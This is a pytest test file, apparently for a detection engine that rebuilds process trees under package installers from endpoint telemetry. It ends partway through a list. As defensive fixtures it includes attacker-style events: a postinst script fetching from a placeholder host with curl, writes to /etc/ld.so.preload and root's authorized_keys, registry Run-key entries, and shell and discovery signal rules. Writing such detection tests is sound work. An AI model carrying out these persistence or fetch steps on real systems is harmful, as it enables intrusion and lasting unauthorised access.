"""Who is whose parent: identities, gaps, reuse, circles, and what does not depend on order."""

from __future__ import annotations

import random
from array import array
from typing import Any

import pytest
from engine import START, completed, run, shipped, tree_rows
from hypothesis import given, settings
from hypothesis import strategies as st
from installer_trees.catalogue import Catalogue, load
from installer_trees.entries import SIGNAL_COLUMNS
from installer_trees.key_index import KeyIndex
from installer_trees.memo import MEMO_CHARS
from installer_trees.model import Settings
from installer_trees.pipeline import Pipeline
from installer_trees.render import TREE_COLUMNS
from installerscore_run import encoded

from bench.counted import Counter

ROOTS = """\
root_id,os,process_name,original_file_name,path_pattern,args_pattern,exclude_pattern,family,role,package_pattern,note,source
R01,windows,msiexec.exe,msiexec.exe,,(?i)\\s/V\\b,,msi exe,service,,n,s
R07,windows,setup.exe,,,,,exe,root,,n,s
R02,windows,msiexec.exe,msiexec.exe,,,(?i)-embedding,msi,root,(?i)/i\\s+(\\S+),n,s
R03,windows,MSI*.tmp,,,,,msi,stage,,n,s
R04,linux,dpkg|apt-get,,,\\s(?:-i|install)\\b,,deb,root,,n,s
R05,macos,installer,,,-pkg,,macos_pkg,root,-pkg\\s+(\\S+),n,s
R06,macos,package_script_service,,,,,macos_pkg,service,,n,s
R08,linux,gem,,,\\slist\\b,,ruby,carrier,,n,s
"""
SIGNALS = (
    ",".join(SIGNAL_COLUMNS)
    + """
TST001,a shell,any,any,process,descendant,process_name,(?i)^(?:sh|cmd\\.exe)$,,,,30,,T1059,r,s,k
TST002,users,any,any,process,descendant,process_name,^(?:id|ps|who)$,,2,parent,20,,T1082,r,s,k
"""
)
CATALOGUE = load(ROOTS.splitlines(True), SIGNALS.splitlines(True))


def shapes(
    events: list[dict[str, Any]], catalogue: Catalogue = CATALOGUE, **options: Any
) -> list[str]:
    """Return each tree as `name(child child(grandchild))`, sorted."""
    pipeline, kept = run(events, catalogue, **options)
    drawn = []
    for one in kept:
        nodes = pipeline._tree(one).nodes

        def text(i: int, nodes: Any = nodes) -> str:
            below = " ".join(text(j) for j, n in enumerate(nodes) if n.parent == i)
            return nodes[i].process.process_name + (f"({below})" if below else "")

        drawn.append(text(0))
    return sorted(drawn)


def test_a_fresh_catalogue_has_no_problems() -> None:
    assert CATALOGUE.problems == []


@pytest.mark.parametrize("skipped", [False, True])
@pytest.mark.parametrize("named", [0.01, 0.9])
def test_expected_keys_have_the_rows_that_the_table_has(skipped: bool, named: float) -> None:
    chance = random.Random(named)
    pool = [0, *(chance.getrandbits(62) - 2**61 for _ in range(300))]
    keys = array("q", (chance.choice(pool) if chance.random() < named else 0 for _ in range(2000)))
    skip = bytes(chance.choice((0, 0, 4)) for _ in keys) if skipped else b""
    truth = {
        key: [row for row, other in enumerate(keys) if other == key and not (skip and skip[row])]
        for key in {*pool, 7} - {0}
    }
    expected, asked = pool[:30], pool[:60]
    index = KeyIndex(keys, skip)
    index.expect(expected)
    assert all(sorted(index.rows(key)) == truth[key] for key in expected if key)
    assert list(index.rows(0)) == []
    assert index._mask < 0, "a table was built for keys that were expected"
    index.expect(pool)  # too many: these are left to the table
    assert all(sorted(index.rows(key)) == truth[key] for key in (*asked, 7) if key)
    assert index._mask >= 0
    index.expect(expected)  # comes too late, and changes nothing
    assert all(sorted(index.rows(key)) == rows for key, rows in truth.items())


def test_guid_beats_a_reused_process_id() -> None:
    events = [
        {"process": "apt-get install a", "process_guid": "g1", "process_id": 7},
        {"process": "sh -c x", "process_guid": "g2", "process_id": 8, "parent_process_guid": "g1",
         "parent_process_id": 7},
        {"process": "cron", "process_guid": "g3", "process_id": 7},
        {"process": "id", "process_guid": "g4", "process_id": 9, "parent_process_guid": "g3",
         "parent_process_id": 7},
    ]  # fmt: skip
    assert shapes(completed(events)) == ["apt-get(sh)"]


def test_process_id_reuse_takes_the_latest_before_the_child() -> None:
    events = [
        {"process": "apt-get install a", "process_id": 7},
        {"process": "sh -c first", "process_id": 8, "parent_process_id": 7},
        {"process": "sleep 1", "process_id": 7},
        {"process": "sh -c second", "process_id": 9, "parent_process_id": 7},
        {"process": "apt-get install b", "process_id": 7},
        {"process": "sh -c third", "process_id": 10, "parent_process_id": 7},
    ]
    assert shapes(completed(events)) == ["apt-get(sh)", "apt-get(sh)"]


def test_one_process_id_on_two_hosts_is_two_processes() -> None:
    events = [
        {"process": "apt-get install a", "process_id": 7, "dest": "one"},
        {"process": "sh -c x", "process_id": 8, "parent_process_id": 7, "dest": "two"},
        {"process": "sh -c y", "process_id": 8, "parent_process_id": 7, "dest": "ONE"},
    ]
    assert shapes(completed(events)) == ["apt-get(sh)"]


def test_a_parent_name_that_does_not_fit_breaks_the_link() -> None:
    events = [
        {"process": "apt-get install a", "process_id": 7},
        {"process": "sh -c x", "process_id": 8, "parent_process_id": 7,
         "parent_process_name": "nginx", "parent_process": "nginx -g daemon"},
        {"process": "bash -c y", "process_id": 9, "parent_process_id": 7,
         "parent_process_name": "apt-get"},
    ]  # fmt: skip
    assert shapes(completed(events)) == ["apt-get(bash)"]


def test_exec_in_the_same_process_keeps_children_with_the_image_that_started_them() -> None:
    events = [
        {"process": "bash -c all", "process_id": 7, "parent_process_id": 1},
        {"process": "id", "process_id": 8, "parent_process_id": 7, "parent_process": "bash -c all",
         "parent_process_name": "bash"},
        {"process": "apt-get install a", "process_id": 7, "parent_process_id": 1},
        {"process": "ps", "process_id": 9, "parent_process_id": 7,
         "parent_process_name": "apt-get"},
        {"process": "who", "process_id": 10, "parent_process_id": 7,
         "parent_process": "bash -c all", "parent_process_name": "bash"},
    ]  # fmt: skip
    assert shapes(completed(events)) == ["apt-get(ps)"]


def test_equal_times_still_link_parent_and_child() -> None:
    events = [
        {"process": "id", "process_id": 10, "parent_process_id": 9, "_time": START},
        {"process": "sh -c x", "process_id": 9, "parent_process_id": 8, "_time": START},
        {"process": "apt-get install a", "process_id": 8, "_time": START},
    ]
    assert shapes(completed(events)) == ["apt-get(sh(id))"]


def test_a_parent_that_never_arrived_stands_in_for_all_its_children() -> None:
    parent = {"parent_process_name": "msiexec.exe", "parent_process": "msiexec.exe /i a.msi"}
    events = [
        {"process": "cmd.exe /c a", "process_id": 9, "parent_process_id": 5, **parent},
        {"process": "cmd.exe /c b", "process_id": 10, "parent_process_id": 5, **parent},
        {"process": "whoami.exe", "process_id": 11, "parent_process_id": 10},
    ]
    assert shapes(completed(events)) == ["msiexec.exe(cmd.exe cmd.exe(whoami.exe))"]
    rows = tree_rows(completed(events), CATALOGUE)
    assert rows[0]["link_method"] == ["pid", "parent_fields"]
    assert rows[0]["process"] == "msiexec.exe /i a.msi"


def test_a_fork_without_exec_is_bridged_by_the_command_line_of_the_forker() -> None:
    script = {"process_name": "dash", "process": "/bin/sh /var/lib/dpkg/info/a.postinst configure"}
    events = [
        {"process": "dpkg -i a.deb", "process_id": 7},
        {**script, "process_id": 8, "parent": 0},
        {"process": "curl x", "process_id": 10, "parent_process_id": 9,
         "parent_process_name": "dash", "parent_process": script["process"]},
    ]  # fmt: skip
    assert shapes(completed(events)) == ["dpkg(dash(curl))"]
    assert tree_rows(completed(events), CATALOGUE)[0]["link_method"] == ["pid", "parent_fields"]


@pytest.mark.parametrize("by", ["guid", "pid"])
def test_circles_and_self_parents_end(by: str) -> None:
    names = {
        "guid": ("process_guid", "parent_process_guid"),
        "pid": ("process_id", "parent_process_id"),
    }
    own, above = names[by]
    events = [
        {"process": "apt-get install a", own: "1", above: "3", "_time": START},
        {"process": "sh -c x", own: "2", above: "1", "_time": START},
        {"process": "sh -c y", own: "3", above: "2", "_time": START},
        {"process": "apt-get install b", own: "4", above: "4", "_time": START},
    ]
    assert shapes(completed(events)) == ["apt-get", "apt-get(sh(sh))"]


def test_duplicates_and_two_sensors_are_one_process() -> None:
    one = {"process": "apt-get install a", "process_id": 7, "process_guid": "g1"}
    two = {"process": "sh -c x", "process_id": 8, "process_guid": "g2", "parent_process_guid": "g1",
           "parent_process_id": 7}  # fmt: skip
    plain = {"process": "sh -c x", "process_id": 8, "parent_process_id": 7, "_time": START + 2.2}
    assert shapes(
        completed([one, two, {**one, "_time": START}, {**two, "_time": START + 1}, plain])
    ) == ["apt-get(sh)"]


EDR = [
    {"process": "apt-get install a", "process_id": 7, "process_guid": "{A-1}"},
    {"process": 'sh -c "x y"', "process_id": 8, "process_guid": "{A-2}",
     "parent_process_guid": "{A-1}", "parent_process_id": 7},
    {"process": "id", "process_id": 9, "process_guid": "{A-3}", "parent_process_guid": "{A-2}",
     "parent_process_id": 8},
]  # fmt: skip


def other_sensor(row: dict[str, Any]) -> dict[str, Any]:
    """The same process with a GUID of another form, and its line written in another way."""
    other = {**row, "_time": row["_time"] + 0.4, "process": row["process"].replace('"', "") + " "}
    for name in ("process_guid", "parent_process_guid"):
        if name in row:
            other[name] = row[name].strip("{}").replace("A-", "90000")
    return other


def test_two_sensors_with_guids_of_their_own_tell_one_process() -> None:
    rows = completed(EDR)
    both = [*rows, *map(other_sensor, rows)]
    assert shapes(both) == shapes(both[::-1]) == ["apt-get(sh(id))"]
    mixed = [rows[0], other_sensor(rows[1]), rows[2]]
    assert shapes(mixed) == ["apt-get(sh(id))"], "one sensor may miss what the other tells"
    assert shapes([other_sensor(rows[0]), rows[1], rows[2]]) == ["apt-get(sh(id))"]


def test_two_guids_of_one_form_are_two_processes() -> None:
    rows = completed(EDR)
    again = {**rows[2], "process_guid": "{A-4}", "_time": rows[2]["_time"] + 0.4}
    assert shapes([*rows, again]) == ["apt-get(sh(id id))"]


def test_two_sensors_with_guids_of_one_form_are_one_when_one_of_them_loses_its() -> None:
    """What docs/limitations.md says of them, and the way out that it names."""
    rows = completed(EDR)
    guids = ("process_guid", "parent_process_guid")
    again = [{**row, **{f: row[f].replace("A", "B") for f in guids if f in row}} for row in rows]
    assert shapes([*rows, *again]) == ["apt-get(sh(id))", "apt-get(sh(id))"]
    bare = [{field: row[field] for field in row if field not in guids} for row in again]
    assert shapes([*rows, *bare]) == ["apt-get(sh(id))"]


@pytest.mark.parametrize("guid", [True, False])
@pytest.mark.parametrize("after", [0, 0.01, 60, 7200])
def test_the_end_of_a_process_is_no_other_process(guid: bool, after: float) -> None:
    rows = completed(EDR)
    ends = []
    for row in rows:
        end = {name: row[name] for name in ("dest", "process_name", "process_id", "process_guid")}
        path = f"/usr/bin/{row['process_name']}"
        ends.append({**end, "_time": row["_time"] + after, "process": path, "process_path": path})
    both = [*rows, *ends]
    if not guid:
        both = [{k: v for k, v in row.items() if "guid" not in k} for row in both]
    assert shapes(both) == shapes(both[::-1]) == ["apt-get(sh(id))"]


def test_one_guid_for_all_is_quickly_seen_to_be_none() -> None:
    """As some sources fill the field; each process has its id, and each file its process."""
    rows: list[dict[str, Any]] = []
    for i in range(3_000):
        line = "dpkg -i x.deb" if i % 50 == 0 else "ls"
        rows.append({"process": line, "process_id": 100 + i, "process_guid": "same"})
    rows += [{"by": i, "file_path": f"/tmp/{i}", "action": "created"} for i in range(0, 3_000, 2)]
    events = completed(rows)
    calls = Counter("calls")
    with calls.on():
        assert len(shapes(events)) == 60
    assert calls.count < 400 * len(events)


def test_a_connection_belongs_to_the_host_that_reports_it() -> None:
    for field in ("dvc", "host"):
        events = completed(EDR)
        event = {"_time": START + 5, "src": "10.0.0.5", "dest": "203.0.113.9", field: "host1",
                 "dest_ip": "203.0.113.9", "process_guid": "{A-2}", "process_id": 8}  # fmt: skip
        pipeline, kept = run([*events, event], CATALOGUE)
        assert [e.dest_ip for _, e in pipeline._tree(kept[0]).events] == ["203.0.113.9"]
        del event["process_guid"]
        pipeline, kept = run([*events, event], CATALOGUE)
        assert [e.dest_ip for _, e in pipeline._tree(kept[0]).events] == ["203.0.113.9"]


def test_a_connection_is_not_of_the_process_with_its_id_on_the_other_side() -> None:
    here = completed(EDR)
    there = [{**row, "dest": "host2"} for row in here]
    event = {"_time": START + 5, "dvc": "host1", "dest": "host2", "dest_ip": "10.0.0.9",
             "process_id": 8}  # fmt: skip
    pipeline, kept = run([*here, *there, event], CATALOGUE)
    hosts = {t.nodes[0].process.dest for t in map(pipeline._tree, kept) if t.events}
    assert hosts == {"host1"}
    outside = {**here[1], "dest": "collector", "process_name": "sshd", "process": "sshd"}
    event = {**event, "dvc": "", "host": "collector", "dest": "host2", "process_name": "sh"}
    pipeline, kept = run([*there, outside, event], CATALOGUE)
    assert [len(pipeline._tree(one).events) for one in kept] == [1], "the name decides"
    pipeline, kept = run([*there, outside, {**event, "process_name": "sshd"}], CATALOGUE)
    assert [len(pipeline._tree(one).events) for one in kept] == [0]


def test_a_backslash_in_a_line_of_linux_makes_no_windows_of_it() -> None:
    script = "sh -c printf 'ok\\n'; ( curl -s https://a.example/x )"
    rows = [
        {"process": "dpkg -i a.deb", "process_id": 7},
        {"process": script, "process_id": 8, "parent_process_id": 7},
        {"process": "curl -s https://a.example/x", "process_id": 10, "parent_process_id": 9,
         "parent_process_name": "sh", "parent_process": script},
    ]  # fmt: skip
    assert shapes(completed(rows)) == ["dpkg(sh(curl))"]
    taken = {"process": "apt-get install -o x=\\n a", "process_id": 7, "parent_process_id": 3}
    after = {"process": "sh -c x", "process_id": 7, "parent_process_id": 3}
    assert shapes(completed([taken, after])) == ["apt-get(sh)"]


def test_what_one_process_runs_one_after_the_other_is_not_one_for_its_guid() -> None:
    """A sensor may keep the GUID of a process through its exec calls."""
    top, script, *_ = completed(EDR)
    later = {**script, "process": "bash -c y", "process_name": "bash", "_time": START + 9}
    assert shapes([top, script, later]) == ["apt-get(sh bash)"]
    end = {name: script[name] for name in ("dest", "process_name", "process_id", "process_guid")}
    end = {**end, "_time": START + 30}
    assert shapes([top, script, {**script, "_time": START + 9}, end]) == ["apt-get(sh)"]


def test_trees_of_one_guid_for_all_have_ids_of_their_own() -> None:
    lines = [{"process": f"msiexec /i {name}.msi", "process_guid": "same"} for name in "abc"]
    rows = tree_rows(completed(lines), shipped())
    assert len({row["installer_tree_id"] for row in rows}) == 3


def test_a_row_without_an_id_makes_no_process_of_all_that_have_its_guid() -> None:
    rows = completed([{"process": f"dpkg -i {name}.deb", "process_guid": "same"} for name in "ab"])
    other = {**rows[0], "process_id": "", "process": "dpkg", "_time": START + 3}
    assert shapes([*rows, other]) == ["dpkg", "dpkg"]


def test_a_parent_that_only_a_copy_names_is_the_parent() -> None:
    """The copy that tells most may name a parent that never arrived, in its own sensor's way."""
    above, below = completed(EDR)[:2]
    rich = {**other_sensor(below), "process_guid": "{A-2}", "parent_process_guid": "{gone}",
            "parent_process_id": "", "_time": below["_time"] - 0.1}  # fmt: skip
    plain = {k: v for k, v in below.items() if k != "process_guid"}
    assert shapes([above, rich, plain]) == shapes([plain, rich, above]) == ["apt-get(sh)"]


def test_two_sensors_quote_a_program_in_their_own_ways() -> None:
    path = "C:\\Program Files\\Kit\\setup.exe"
    told = {"process_id": 7, "process_name": "setup.exe", "process_path": path}
    lines = (f'"{path}" /q', f"{path} /q", "setup.exe /q")
    assert shapes(completed([{**told, "process": line, "_time": START} for line in lines])) == [
        "setup.exe"
    ]


@pytest.mark.parametrize("guid", ["0", "-1", "0x0", "-"])
def test_what_stands_for_no_guid_is_no_identity(guid: str) -> None:
    row = {"process": "dpkg -i a.deb", "process_guid": guid}
    pipeline, kept = run([{**completed([row])[0], "process_id": ""}], CATALOGUE)
    assert not kept
    assert pipeline.store.counters.no_identity == 1


def test_one_connection_that_two_sensors_tell_counts_once() -> None:
    seen = {"by": 1, "dest_ip": "203.0.113.9", "dest_port": 443}
    events = completed([*EDR, seen])
    also = {**events[3], "_time": events[3]["_time"] + 0.3, "app": "https"}
    later = {**events[3], "_time": events[3]["_time"] + 30}
    pipeline, kept = run([*events, also, later], CATALOGUE)
    assert [e.app for _, e in pipeline._tree(kept[0]).events] == ["https", ""]


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ({"file_path": "/etc/ld.so.preload", "action": "read"},
         {"file_path": "/etc/ld.so.preload", "action": "modified"}),
        ({"registry_path": "HKU\\Run", "registry_value_name": "a", "registry_value_data": "a.exe"},
         {"registry_path": "HKU\\Run", "registry_value_name": "b", "registry_value_data": "b.exe"}),
        ({"url": "https://a.example"}, {"url": "https://b.example"}),
        ({"file_path": "/root/.ssh/authorized_keys", "action": "Deleted"},
         {"file_path": "/root/.ssh/authorized_keys", "action": "created"}),
    ],
    ids=["reading and writing", "two values of one key", "two addresses", "deleting, writing"],
)  # fmt: skip
def test_two_things_that_one_process_does_at_once_stay_two(
    one: dict[str, Any], other: dict[str, Any]
) -> None:
    events = completed([*EDR, {"by": 1, **one}])
    events.append({**events[3], **other, "_time": events[3]["_time"] + 0.3})
    pipeline, kept = run(events, CATALOGUE)
    assert len(pipeline._tree(kept[0]).events) == 2


def test_an_installer_stays_one_when_another_sensor_tells_less() -> None:
    told = {"process": "dpkg -i a.deb", "process_id": 7}
    below = {"process": "sh -c x", "process_id": 8, "parent_process_id": 7}
    events = completed([told, below])
    less = {"dest": "host1", "process_name": "dpkg", "process_id": 7, "process_guid": "{A-1}",
            "_time": events[0]["_time"]}  # fmt: skip
    assert shapes([*events, less]) == shapes([less, *events]) == ["dpkg(sh)"]


def test_forms_of_guids_are_told_apart_whatever_their_length() -> None:
    guids = "01234567-89ab-cdef-0123-456789abcdef", "0123456789abcdef0123456789abcdef0123"
    rows = completed(EDR[:1])
    both = [{**rows[0], "process_guid": guid} for guid in guids]
    assert shapes(both) == ["apt-get"]


def test_a_host_with_and_without_its_domain_is_not_two_in_prevalence() -> None:
    one = completed([{"process": "apt-get install a", "process_id": 7}])
    two = [{**row, "dest": "host1.contoso.example"} for row in one]
    _, kept = run([*one, *two], CATALOGUE)
    assert [tree.hosts for tree in kept] == [1, 1]
    _, kept = run([{**row, "dest": f"10.0.0.{i}"} for i in (1, 2) for row in one], CATALOGUE)
    assert [tree.hosts for tree in kept] == [2, 2]
    two = [{**row, "dest": dest} for row in one for dest in ("3com.a.example", "3com.b.example")]
    _, kept = run(two, CATALOGUE)
    assert [tree.hosts for tree in kept] == [1, 1]


def test_of_rows_that_the_engine_takes_for_equal_the_order_decides_nothing() -> None:
    rows = completed(EDR)
    both = [{**row, "index": index} for row in rows for index in "ab"]
    answers = []
    for given_rows in (both, both[::-1]):
        pipeline, kept = run(given_rows, CATALOGUE)
        answers.append([row["index"] for row in pipeline.process_rows(kept)])
    assert answers[0] == answers[1] == ["a", "a", "a"]


def test_the_richer_copy_of_a_process_stands_for_it() -> None:
    events = completed(
        [
            {"process": "apt-get install a", "process_id": 7, "process_guid": "g1"},
            {"process": "sh -c x", "process_id": 8, "parent_process_guid": "g1"},
        ]
    )
    poorer = {**events[0], "process": "", "process_name": "", "process_path": "/usr/bin/apt-get"}
    assert shapes([poorer, *events]) == ["apt-get(sh)"]


def test_what_takes_over_the_process_of_an_installer_belongs_to_it() -> None:
    shell = {"process_id": 7, "parent_process_id": 3}
    events = [
        {"process": "apt-get install a", **shell},
        {"process": "sh -c fetched", **shell, "_time": START + 20},
        {"process": "id", "process_id": 9, "parent_process_id": 7, "_time": START + 30},
    ]
    assert shapes(completed(events)) == ["apt-get(sh(id))"]
    for change in ({"parent_process_id": 4}, {"_time": START + 90}, {"dest": "other"}):
        events[1].update(change)
        assert shapes(completed(events))[0] != "apt-get(sh(id))"


def test_a_carrier_is_a_tree_only_where_something_grew_from_it() -> None:
    listing = {"process": "gem list", "process_id": 7}
    assert shapes(completed([listing])) == []
    assert shapes(completed([listing, {"process": "sh -c x", "parent": 0}])) == ["gem(sh)"]
    install = {"process": "apt-get install a", "process_id": 6}
    below = {"process": "gem list", "process_id": 7, "parent_process_id": 6}
    assert shapes(completed([install, below])) == ["apt-get(gem)"]


def test_an_installer_that_execs_another_is_one_tree() -> None:
    events = [
        {"process": "apt-get install a", "process_id": 7, "parent_process_id": 3},
        {"process": "dpkg -i a", "process_id": 7, "parent_process_id": 3},
        {"process": "sh -c x", "process_id": 8, "parent_process_id": 7},
    ]
    assert shapes(completed(events)) == ["apt-get(dpkg(sh))"]
    events[1]["_time"] = events[2]["_time"] = START + 4_000
    assert shapes(completed(events)) == ["apt-get", "dpkg(sh)"]


@pytest.mark.parametrize(
    ("change", "attached"),
    [
        ({}, True),
        ({"process_id": 40}, False),
        ({"_time": START + 30}, False),
        ({"user": "other"}, False),
        ({"process": "nginx -g daemon"}, False),
        ({"process": "[kworker/1:2]", "process_name": "setsid", "process_path": "memfd:x"}, True),
        ({"process": "sensor", "process_name": "3", "process_path": "/proc/self/fd/3"}, True),
        ({"process": "sensor", "process_name": "3", "process_path": "/opt/sensor/3"}, False),
        ({"parent_process_id": 2}, False),
    ],
    ids=[
        "near",
        "far id",
        "later",
        "other user",
        "a service",
        "in memory",
        "by descriptor",
        "in a folder of programs",
        "not of init",
    ],
)
def test_a_background_process_left_to_init_goes_back_to_its_script(
    change: dict[str, Any], attached: bool
) -> None:
    events = [
        {"process": "dpkg -i a.deb", "process_id": 7},
        {"process": "/bin/sh postinst", "process_name": "dash", "process_id": 8, "parent": 0},
        {"process": "chmod x", "process_id": 9, "parent": 1},
        {"process": "setsid sh -c x", "process_id": 11, "parent_process_id": 1, **change},
        {"process": "id", "process_id": 12, "parent": 3},
    ]
    name = change.get("process_name", "setsid")
    shape = f"dpkg(dash(chmod {name}(id)))" if attached else "dpkg(dash(chmod))"
    assert shapes(completed(events)) == [shape]


def test_children_long_after_the_installer_are_not_its_own() -> None:
    events = [
        {"process": "apt-get install a", "process_id": 7},
        {"process": "sh -c x", "process_id": 8, "parent_process_id": 7, "_time": START + 3700},
    ]
    assert shapes(completed(events), settings=Settings(tree_lifetime=1)) == ["apt-get"]
    assert shapes(completed(events), settings=Settings(tree_lifetime=2)) == ["apt-get(sh)"]


def test_an_installer_after_the_lifetime_of_the_one_above_has_its_own_tree() -> None:
    events = [
        {"process": "apt-get install a", "process_id": 7},
        {"process": "dpkg -i b", "process_id": 8, "parent_process_id": 7, "_time": START + 7200},
        {"process": "sh -c x", "process_id": 9, "parent_process_id": 8, "_time": START + 7201},
    ]
    assert shapes(completed(events), settings=Settings(tree_lifetime=1)) == ["apt-get", "dpkg(sh)"]


def test_a_row_without_time_is_kept_and_placed_last() -> None:
    events = [
        {"process": "apt-get install a", "process_id": 7},
        {"process": "id", "process_id": 8, "parent_process_id": 7, "_time": "yesterday"},
        {"process": "sh -c x", "process_id": 9, "parent_process_id": 7},
    ]
    assert shapes(completed(events)) == ["apt-get(sh id)"]


def test_an_installer_inside_an_installer_is_one_tree() -> None:
    events = [
        {"process": "apt-get install a", "process_id": 7},
        {"process": "dpkg -i a.deb", "process_id": 8, "parent": 0},
        {"process": "sh postinst", "process_id": 9, "parent": 1},
    ]
    assert shapes(completed(events)) == ["apt-get(dpkg(sh))"]


def test_windows_installer_client_service_and_servers_are_one_tree() -> None:
    events = [
        {"process": "msiexec.exe /i C:\\a.msi", "process_id": 7},
        {
            "process": "C:\\Windows\\system32\\msiexec.exe /V",
            "process_id": 20,
            "parent_process_id": 4,
        },
        {"process": "MsiExec.exe -Embedding AB12", "process_id": 21, "parent": 1},
        {"process": "C:\\Windows\\Installer\\MSI12.tmp", "process_id": 22, "parent": 1},
        {"process": "cmd.exe /c x", "process_id": 23, "parent": 3},
    ]
    assert shapes(completed(events)) == ["msiexec.exe(msiexec.exe(MsiExec.exe MSI12.tmp(cmd.exe)))"]


def test_a_service_that_serves_two_requests_is_shared_out_by_time() -> None:
    events = [
        {"process": "msiexec.exe /i a.msi", "process_id": 7},
        {"process": "msiexec.exe /V", "process_id": 20},
        {"process": "cmd.exe /c a", "process_id": 21, "parent": 1},
        {"process": "msiexec.exe /i b.msi", "process_id": 8},
        {"process": "whoami.exe", "process_id": 22, "parent": 1},
    ]
    assert shapes(completed(events)) == [
        "msiexec.exe(msiexec.exe(cmd.exe))",
        "msiexec.exe(whoami.exe)",
    ]


def test_a_service_an_hour_after_its_request_is_still_tied_and_a_day_after_is_not() -> None:
    events = [
        {"process": "msiexec.exe /i a.msi", "process_id": 7},
        {"process": "msiexec.exe /V", "process_id": 20, "_time": START + 3600},
        {"process": "cmd.exe /c a", "process_id": 21, "parent": 1, "_time": START + 3601},
    ]
    assert shapes(completed(events)) == ["msiexec.exe(msiexec.exe(cmd.exe))"]
    for late in events[1:]:
        late["_time"] += 86_400
    assert shapes(completed(events)) == ["msiexec.exe", "msiexec.exe(cmd.exe)"]


def test_a_service_works_for_requests_of_another_family_where_its_own_has_none() -> None:
    service = [
        {"process": "msiexec.exe /V", "process_id": 20},
        {"process": "cmd.exe /c a", "process_id": 21, "parent_process_id": 20},
    ]
    bundle = {"process": "C:\\x\\setup.exe", "process_id": 7}
    assert shapes(completed([bundle, *service])) == ["setup.exe(msiexec.exe(cmd.exe))"]
    client = {"process": "msiexec.exe /i a.msi", "process_id": 8}
    assert shapes(completed([client, bundle, *service])) == [
        "msiexec.exe(msiexec.exe(cmd.exe))",
        "setup.exe",
    ]


def test_macos_scripts_go_to_the_request_whose_package_they_name() -> None:
    script = "/bin/bash /tmp/PKInstallSandbox.x/Scripts/a/postinstall {} / / /"
    events = [
        {"process": "installer -pkg /Users/u/one.pkg -target /", "process_id": 7},
        {"process": "installer -pkg /Users/u/two.pkg -target /", "process_id": 8},
        {"process": "package_script_service", "process_id": 20},
        {"process": script.format("/Users/u/one.pkg"), "process_id": 21, "parent": 2},
        {"process": "id", "process_id": 22, "parent": 3},
    ]
    assert shapes(completed(events)) == ["installer", "installer(package_script_service(bash(id)))"]


def test_events_belong_to_the_process_with_their_id_at_that_time() -> None:
    events = completed(
        [
            {"process": "apt-get install a", "process_id": 7},
            {"process": "sh -c x", "process_id": 8, "parent": 0},
            {"by": 1, "dest_ip": "8.8.8.8", "dest_port": 443},
            {"process": "cron", "process_id": 8, "parent_process_id": 1},
            {"by": 3, "dest_ip": "9.9.9.9", "dest_port": 443},
            {"by": 1, "src": "host1", "dest": "remote", "dest_ip": "1.1.1.1", "_time": START + 2},
        ]
    )
    pipeline, kept = run(events, CATALOGUE)
    tree = pipeline._tree(kept[0])
    assert sorted(e.dest_ip for _, e in tree.events) == ["1.1.1.1", "8.8.8.8"]
    assert {tree.nodes[i].process.process_name for i, _ in tree.events} == {"sh"}
    assert pipeline.store.counters.unowned_events == 1


def test_events_of_a_parent_that_never_arrived_belong_to_its_stand_in() -> None:
    events = completed(
        [
            {"process": "cmd.exe", "process_guid": "{B}", "parent_process_guid": "{A}",
             "parent_process_name": "msiexec.exe", "parent_process": "msiexec.exe /V"},
            {"dest_ip": "8.8.8.8", "process_guid": "{A}", "process_name": "msiexec.exe"},
        ]
    )  # fmt: skip
    pipeline, kept = run(events, CATALOGUE)
    tree = pipeline._tree(kept[0])
    assert [(tree.nodes[i].process.process_name, e.dest_ip) for i, e in tree.events] == [
        ("msiexec.exe", "8.8.8.8")
    ]


def test_a_chain_of_fifty_thousand_and_a_parent_of_a_hundred_thousand() -> None:
    chain = [{"process": "apt-get install a", "process_id": 1, "_time": START, "dest": "a"}]
    chain += [
        {"process": "sh", "process_id": i, "parent_process_id": i - 1, "_time": START, "dest": "a"}
        for i in range(2, 50_001)
    ]
    wide = [{"process": "apt-get install b", "process_id": 1, "_time": START, "dest": "b"}]
    wide += [
        {"process": "id", "process_id": i, "parent_process_id": 1, "_time": START, "dest": "b"}
        for i in range(2, 100_001)
    ]
    pipeline, kept = run(chain + wide, CATALOGUE)
    rows = sorted(pipeline.tree_rows(kept), key=lambda row: row["process_count"])
    assert [(r["process_count"], r["tree_depth"]) for r in rows] == [(50_000, 49_999), (100_000, 1)]
    assert all(len("\n".join(row["tree"])) < 5_000 for row in rows)


NAMES = ["apt-get install a", "dpkg -i b", "sh", "bash", "id", "ps", "msiexec.exe /V",
         "msiexec.exe /i a.msi", "MSI1.tmp", "cmd.exe"]  # fmt: skip


@st.composite
def forests(draw: Any) -> list[dict[str, Any]]:
    """Random processes with reuse, equal times, gaps, circles, duplicates, and events."""
    ids = st.sampled_from(["", "1", "2", "3", "4", "5"])
    guids = st.sampled_from(["", "", "g1", "g2", "g3", "-"])
    events = []
    for _ in range(draw(st.integers(1, 14))):
        event = {
            "dest": draw(st.sampled_from(["h1", "h1", "h2", ""])),
            "user": draw(st.sampled_from(["", "u"])),
            "_time": draw(st.sampled_from([START, START + 1, START + 1.5, START + 4000, ""])),
            "process": draw(st.sampled_from([*NAMES, ""])),
            "process_id": draw(ids),
            "process_guid": draw(guids),
            "parent_process_id": draw(ids),
            "parent_process_guid": draw(guids),
            "parent_process": draw(st.sampled_from([*NAMES, "", "", ""])),
            "dest_ip": draw(st.sampled_from(["", "", "", "8.8.8.8"])),
            "action": draw(st.sampled_from(["", "", "modified"])),
        }
        event["process_name"] = event["process"].split(" ")[0]
        event["parent_process_name"] = event["parent_process"].split(" ")[0]
        events.append(event)
    return events


@settings(max_examples=600, deadline=None)
@given(forests(), st.integers(1, 15), st.randoms(use_true_random=False))
def test_same_rows_same_answer(
    events: list[dict[str, Any]], chunk: int, shuffle: random.Random
) -> None:
    """Any order of rows and any cut into chunks give equal bytes, and no row is lost uncounted."""

    def answer(rows: list[dict[str, Any]], size: int) -> tuple[Pipeline, list[bytes], list[Any]]:
        pipeline, kept = run(rows, CATALOGUE, chunk=size)
        trees = b"".join(encoded(TREE_COLUMNS, pipeline.tree_rows(kept)))
        processes = b"".join(encoded(pipeline.process_columns(), pipeline.process_rows(kept)))
        return pipeline, [trees, processes], pipeline.messages()

    pipeline, *expected = answer(events, len(events))
    counters = pipeline.store.counters
    refused = counters.no_dest + counters.no_process + counters.no_identity + counters.no_target
    assert counters.rows == len(events)
    assert counters.processes + sum(counters.events.values()) + refused == counters.rows
    shuffled = list(events)
    shuffle.shuffle(shuffled)
    _, *found = answer(shuffled, chunk)
    assert found == expected


BESIDE = [
    {"process": "bash", "process_id": 5},
